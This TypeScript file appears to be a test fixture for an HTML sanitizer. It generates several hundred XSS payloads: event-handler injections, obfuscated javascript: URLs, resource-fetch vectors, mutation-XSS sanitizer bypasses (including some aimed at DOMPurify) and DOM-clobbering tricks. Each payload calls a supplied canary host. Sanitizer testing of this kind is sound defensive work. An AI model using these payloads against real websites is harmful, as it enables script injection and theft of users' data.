/** Where everything hostile tries to go: each try that gets through is seen there. */
type Canary = string;

const EVENTS = [
  'load',
  'error',
  'mouseover',
  'focus',
  'toggle',
  'animationstart',
  'begin',
  'pageshow',
  'beforeinput',
  'wheel',
];
const ELEMENTS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'embed',
  'style',
  'math',
  'select',
  'a',
];

const run = (canary: Canary) => `fetch('${canary}/run');top.hit=1;alert(1)`;

function handlers(canary: Canary): string[] {
  return ELEMENTS.flatMap((element) =>
    EVENTS.flatMap((event) => [
      `<${element} src=x open autofocus on${event}="${run(canary)}">x</${element}>`,
      `<${element}/on${event.toUpperCase()}=${run(canary).replaceAll("'", '&#39;')} src="${canary}/src" tabindex=1>`,
    ]),
  );
}

function addresses(canary: Canary): string[] {
  const code = `javascript:${encodeURIComponent(run(canary))}`;
  const hidden = [
    code,
    code.replace('java', 'java\t'),
    code.replace('j', '&#106;'),
    ` \u0001${code}`,
    code.toUpperCase(),
    `vbscript:x`,
    `data:text/html,<script>${run(canary)}</script>`,
  ];
  return hidden.flatMap((url) => [
    `<a href="${url}" id=go>go</a>`,
    `<iframe src="${url}"></iframe>`,
    `<form action="${url}"><button>go</button></form>`,
    `<object data="${url}"></object>`,
    `<embed src="${url}">`,
    `<svg><a xlink:href="${url}"><text y=20>go</text></a></svg>`,
    `<math><mi xlink:href="${url}">go</mi></math>`,
    `<img src="${url}">`,
    `<base href="${url}"><a href="/x">go</a>`,
    `<meta http-equiv=refresh content="0;url=${url}">`,
  ]);
}

function fetches(canary: Canary): string[] {
  const url = `${canary}/fetched`;
  return [
    `<img src="${url}">`,
    `<img srcset="${url} 2x">`,
    `<picture><source srcset="${url}"><img></picture>`,
    `<video poster="${url}" src="${url}" autoplay></video>`,
    `<audio src="${url}" autoplay></audio>`,
    `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}">`,
    `<style>@import '${url}'; body { background: url(${url}) }</style>`,
    `<style>@font-face { font-family: f; src: url(${url}) } * { font-family: f }</style>`,
    `<div style="background:url('${url}')">x</div><div style="background:\\75rl(${url})">x</div>`,
    `<div style="list-style-image:image-set('${url}' 1x);display:list-item">x</div>`,
    `<table background="${url}"><tr><td background="${url}">x</table>`,
    `<svg><image href="${url}"/><use href="${url}#x"/><feImage href="${url}"/></svg>`,
    `<svg><style>@import "${url}";</style></svg>`,
    `<meta http-equiv=refresh content="0;url=${url}">`,
    `<iframe src="${url}"></iframe><iframe srcdoc="<img src='${url}'>"></iframe><frameset><frame src="${url}"></frameset>`,
    `<object data="${url}"></object><embed src="${url}"><applet code="${url}"></applet>`,
    `<input type=image src="${url}"><button formaction="${url}" autofocus>go</button>`,
    `<script src="${url}"></script><script>${run(canary)}</script><script type=module>import('${url}')</script>`,
    `<a href="x" ping="${url}" id=go>go</a>`,
    `<link rel=icon href="${url}"><link rel=manifest href="${url}">`,
    `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
    `<xml src="${url}"></xml><bgsound src="${url}"><layer src="${url}"></layer>`,
  ];
}

function mutations(canary: Canary): string[] {
  const img = `<img src=x onerror="${run(canary)}">`;
  return [
    `<noscript><p title="</noscript>${img}">`,
    `<svg></p><style><a id="</style>${img}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`,
    `<style><@import;/style><@import;img src=x onerror="${run(canary)}"></style>`,
    `<style><@import url(${canary}/x);/style><@import;meta http-equiv=refresh content="0;url=${canary}/x"></style>`,
    `<style><\\/style><\\img src=x onerror="${run(canary)}"></style>`,
    `<style>\\3c/style>\\3cimg src=x onerror="${run(canary)}"></style>`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<svg><foreignObject><style><a title="</style>${img}">`,
    `<math><annotation-xml encoding="text/html"><style><a title="</style>${img}">`,
    `<title><a title="</title>${img}">`,
    `<textarea><a title="</textarea>${img}">`,
    `<xmp><a title="</xmp>${img}">`,
    `<noembed><a title="</noembed>${img}">`,
    `<iframe><a title="</iframe>${img}">`,
    `<!--><${img}-->`,
    `<!--!>${img}-->`,
    `<![CDATA[><${img}]]>`,
    `<template><s><template><s>${img}</s></template></s></template>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`,
    `<table><tr><td><svg><desc><table><td></desc>${img}</table>`,
    `<p id="${'<b>'.repeat(600)}">${'<div>'.repeat(600)}${img}`,
    `<svg><![CDATA[</svg>${img}]]>`,
    `<div is="x-${'a'.repeat(50)}" ${'x=1 '.repeat(300)}>${img}</div>`,
  ];
}

function clobbering(canary: Canary): string[] {
  const names = [
    'parent',
    'location',
    'document',
    'body',
    'postMessage',
    'attributes',
    'childNodes',
    'nodeName',
    'DOMPurify',
    'top',
    'self',
    'createElement',
    'replaceChildren',
    'origin',
    'innerHTML',
  ];
  return names.flatMap((name) => [
    `<form id=${name}><input name=${name}><img name=${name} src=x onerror="${run(canary)}"></form>`,
    `<a id=${name}></a><a id=${name} name=href href="${canary}/clobbered">x</a><iframe name=${name} srcdoc="<script>${run(canary)}</script>"></iframe>`,
  ]);
}

/** Several hundred pieces of HTML, each of which would run, fetch or go somewhere in a browser that trusted it. */
export function hostileHtml(canary: Canary): string[] {
  return [...handlers(canary), ...addresses(canary), ...fetches(canary), ...mutations(canary), ...clobbering(canary)];
}
